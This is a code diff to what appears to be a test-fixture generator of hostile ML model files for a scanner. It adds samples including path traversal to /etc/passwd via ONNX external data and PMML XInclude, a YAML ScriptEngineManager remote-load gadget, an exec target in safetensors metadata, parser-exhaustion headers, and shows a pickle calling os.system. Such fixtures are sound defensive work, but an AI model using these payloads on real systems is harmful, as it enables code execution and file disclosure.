@@ -34,6 +34,27 @@ PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
 MARSHAL = base64.b64encode(b"\xe3" + bytes(40)).decode()
 
 
+def _bounds() -> Iterator[Sample]:
+    deep = b"[" * 100_000
+    yield "deep-header.safetensors", struct.pack("<Q", len(deep)) + deep
+    yield (
+        "negative-offset.safetensors",
+        safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [-4, 0]}}, bytes(4)),
+    )
+    nested = struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 5000
+    yield (
+        "nested-arrays.gguf",
+        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"a" + nested,
+    )
+    yield "model.pb", onnx(initializers=[onnx_external("../../etc/passwd")])
+    yield "java.yaml", b"!!javax.script.ScriptEngineManager [!!java.net.URL ['http://a.example']]\n"
+    yield (
+        "xinclude.pmml",
+        b'<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></PMML>',
+    )
+    yield "target.safetensors", safetensors({"__metadata__": {"_target_": "builtins.exec"}}, b"")
+
+
 def hostile() -> Iterator[Sample]:
     yield from _hostile_safetensors()
     yield from _hostile_gguf()
@@ -41,6 +62,7 @@ def hostile() -> Iterator[Sample]:
     yield from _hostile_keras()
     yield from _hostile_tensorflow()
     yield from _hostile_others()
+    yield from _bounds()
 
 
 def _hostile_safetensors() -> Iterator[Sample]:
